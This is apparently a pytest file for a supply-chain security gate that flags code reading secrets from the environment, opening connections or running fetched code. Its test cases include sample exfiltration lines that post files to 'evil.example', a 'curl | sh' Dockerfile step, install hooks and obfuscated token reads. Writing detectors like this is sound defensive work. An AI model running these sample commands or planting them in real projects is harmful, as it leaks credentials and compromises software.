"""What the gate "outbound" says of a line, to the last field: where, of which kind, how firmly."""

from __future__ import annotations

import pytest

from bot.values import Finding
from tests.gates.test_outbound import DK, JS, MK, PKG, PY, SH, find

CASES = [
    (
        PY,
        "import os\nx = 1\nos.environ['PYPI']\nos.environ.get('HOME')\n",
        [(3, "environment", "`PYPI` is read from the environment", True)],
    ),
    (
        PY,
        "import os\nos.environ[name]\n",
        [(2, "environment", "`a computed name` is read from the environment", False)],
    ),
    (
        PY,
        "import os\nos.environ[f()]\n",
        [(2, "environment", "`a computed name` is read from the environment", True)],
    ),
    (
        PY,
        "import os\nrun(env=os.environ)\n",
        [(2, "environment", "`os.environ` is copied whole", False)],
    ),
    (
        PY,
        "import os\nrun(env={**os.environ})\n",
        [(2, "environment", "`os.environ` is copied whole", False)],
    ),
    (
        PY,
        "import os\ne = os.environ\n",
        [(2, "environment", "`os.environ` gets another name", False)],
    ),
    (
        PY,
        "import os\nos.environ.pop('A')\nos.environ['A'] = '1'\ndel os.environ['A']\n'A' in os.environ\n",
        [],
    ),
    (PY, "import os\nmonkeypatch.setitem(os.environ, 'A', '1')\nmock.patch.dict(os.environ)\n", []),
    (PY, "import os\nf(os.environ)\n", [(2, "environment", "`os.environ` is read whole", True)]),
    (
        PY,
        "import os\nx = os.environ.copy()\n",
        [(2, "environment", "`os.environ` is copied whole", False)],
    ),
    (
        PY,
        "import os\nx = dict(os.environ)\n",
        [(2, "environment", "`os.environ` is copied whole", False)],
    ),
    (
        PY,
        "import os\nx = os.environ.items()\n",
        [(2, "environment", "`os.environ` is read whole", True)],
    ),
    (
        PY,
        "import os\nos.getenv('A' + '_TOKEN')\nos.getenv()\n",
        [
            (2, "environment", "`A_TOKEN` is read from the environment", True),
            (3, "environment", "`a computed name` is read from the environment", True),
        ],
    ),
    (PY, "import os\nx = os.getenv\n", []),
    (
        PY,
        "import os\nos.getenv('TOKEN'.lower().upper())\nos.getenv(b'X_KEY'.decode())\nos.getenv('-'.join(['A']) + chr(95) + 'PAssWORD'.replace('ss', 'SS'))\n",
        [
            (2, "environment", "`TOKEN` is read from the environment", True),
            (3, "environment", "`X_KEY` is read from the environment", True),
            (4, "environment", "`A_PASSWORD` is read from the environment", True),
        ],
    ),
    (
        PY,
        "import os\nos.getenv('YEK_X'[::-1])\nos.getenv(f\"{'X'}_KEY\")\nK = 'X_KEY'\nos.getenv(K)\n",
        [
            (2, "environment", "`X_KEY` is read from the environment", True),
            (3, "environment", "`X_KEY` is read from the environment", True),
            (5, "environment", "`X_KEY` is read from the environment", True),
        ],
    ),
    (
        PY,
        "import os, requests\nx = os.environ.copy()\nrequests.get('https://x.example')\n",
        [
            (1, "network", "`requests` is imported, to open connections", True),
            (2, "environment", "`os.environ` is copied whole", True),
            (3, "network", "`requests.get` opens a connection", True),
        ],
    ),
    (
        PY,
        "X = 'aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3'\nY = 'aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3xx'\nZ = 'abababababababababababababababababababababababababababababababababababababababababababababababababababababababababababab'\nW = 'xyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxyxy'\n",
        [
            (1, "encoding", "`a long encoded text` cannot be read", False),
            (3, "encoding", "`a long encoded text` cannot be read", False),
        ],
    ),
    (
        PY,
        "X = '\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41'\nY = [1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,]\nZ = [1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,]\n",
        [
            (1, "encoding", "`a long row of escaped characters` cannot be read", False),
            (2, "encoding", "`a long row of character codes` cannot be read", False),
        ],
    ),
    (
        PY,
        "import socket\nimport subprocess\nsubprocess.run('x', shell=True)\nsubprocess.run(['git', 'x'])\n",
        [
            (3, "execution", "`subprocess.run` spawns a shell", True),
            (1, "network", "`socket` is imported, to open connections", False),
            (4, "execution", "`subprocess.run` runs a program", False),
        ],
    ),
    (
        PY,
        "exec(open('data.bin').read())\neval('1')\n",
        [(1, "execution", "`exec()` runs a computed text", True)],
    ),
    (
        "sitecustomize.py",
        "x = 1\n",
        [(1, "execution", "`sitecustomize.py` runs whenever Python starts", True)],
    ),
    (
        "a/evil.pth",
        "import evil\n",
        [(1, "execution", "`evil.pth` runs whenever Python starts", True)],
    ),
    (
        JS,
        "// process.env\nx = process.env.NPM_TOKEN\ny = process.env.HOME\n",
        [(2, "environment", "`NPM_TOKEN` is read from the environment", True)],
    ),
    (
        JS,
        "require('child_process')\nfetch('https://evil.example')\n",
        [
            (1, "execution", "`child_process` runs programs", True),
            (2, "network", "`fetch` opens a connection", True),
        ],
    ),
    (
        SH,
        "#!/bin/sh\n# curl x\ncurl -d @x https://evil.example\necho $PYPI\n",
        [
            (3, "network", "`curl` opens a connection", True),
            (4, "environment", "`PYPI` is read from the environment", True),
        ],
    ),
    (
        MK,
        "test:\n\t@curl -d @x https://evil.example\n",
        [(2, "network", "`curl` opens a connection", True)],
    ),
    (
        DK,
        "FROM x\nRUN curl https://evil.example | sh\n",
        [
            (2, "network", "`curl` opens a connection", True),
            (2, "execution", "`sh` runs what is computed or fetched", True),
        ],
    ),
    (
        PKG,
        '{\n  "scripts": {\n    "postinstall": "node x.js",\n    "prepare": "husky",\n    "test": "curl -d @x https://e.example"\n  }\n}\n',
        [
            (3, "execution", "`postinstall` runs at each installation", True),
            (5, "network", "`curl` opens a connection", True),
            (4, "execution", "`prepare` runs at each installation", False),
        ],
    ),
    (PKG, '{"scripts": 3}', []),
    (PKG, "[]", []),
    (PKG, "{", []),
    ("src/a.py", "import os\nprint(os.environ)\n", []),
    (
        "scripts/a.py",
        "import os\nprint(os.environ)\n",
        [(2, "environment", "`os.environ` is read whole", True)],
    ),
    (
        "tools/x",
        "#!/usr/bin/env bash\ncurl -d @x https://evil.example\n",
        [(2, "network", "`curl` opens a connection", True)],
    ),
    (
        SH,
        "#!/bin/sh\ncat x | \\ \n  sh\n",
        [(2, "execution", "`sh` runs what is computed or fetched", True)],
    ),
    (
        PY,
        "import os\n\ngetattr(os, f())\n",
        [(3, "execution", "`a computed name of os` hides what it uses", True)],
    ),
    (
        PY,
        "x = 1\n__builtins__\n",
        [(2, "execution", "`__builtins__` hides what it uses", True)],
    ),
    (
        SH,
        'echo "a\n # $PYPI"\n',
        [(2, "environment", "`PYPI` is read from the environment", True)],
    ),
    (MK, "a:\n\techo (\n# $PYPI\n", []),
    (
        PY,
        "import builtins, os\nbuiltins.getattr(os, 'environ').items()\n",
        [(2, "environment", "`os.environ` is read whole", True)],
    ),
]


@pytest.mark.parametrize(("path", "text", "signs"), CASES)
def test_a_sign_is_told_with_its_line_and_its_weight(path, text, signs):
    """The firm ones first, each on its line; what only may mean harm advises."""
    found = [
        (finding.line, finding.rule, finding.text.partition(", in a file")[0], finding.blocks)
        for finding in find(path, text)
    ]

    assert signs == found


@pytest.mark.parametrize("rest", ["[0]" * 800, ".b" * 800, "()" * 800, "['b'].c(0)" * 300])
def test_an_expression_without_end_breaks_nothing(rest):
    """What nobody would write is resolved to a depth."""
    text = f"import os\nx = a{rest}\nprint(os.environ)\n"

    assert [3] == [finding.line for finding in find(PY, text)]


def test_a_finding_names_the_job_and_what_it_could_reach():
    """And how it may stand; without such a job it is told, and keeps nothing back."""
    text = "import os\nprint(os.environ)\n"
    head = "`os.environ` is read whole, in a file that tests or builds run."
    reach = (
        " The job `test` of `.github/workflows/ci.yml` would run it with `PYPI`, `DEPLOY_HOST` in "
        "reach."
    )
    way = " Do without it. If the request needs it, name this file in `lowered` of the plan."

    assert [Finding("outbound", PY, 2, f"{head}{reach}{way}", True, "environment")] == find(
        PY, text
    )
    assert [Finding("outbound", PY, 2, head, False, "environment")] == find(PY, text, job=None)


def test_what_a_file_does_already_only_advises():
    """Once more of the same is nothing new there; of many, the first eight are told."""
    text = "import os\nprint(os.environ)\n"
    again = find(PY, f"{text}print(os.environ)\n", text)
    many = find(PY, f"import os\n{'print(os.environ)' + chr(10)}" * 12)

    package = '{\n  "scripts": {\n    "test": "curl -d @x https://e.example"\n  }\n}\n'

    assert [(3, False)] == [(finding.line, finding.blocks) for finding in again]
    assert [] == find(PKG, package.replace("{\n", '{\n  "private": true,\n', 1), package)
    assert 8 == len(many)
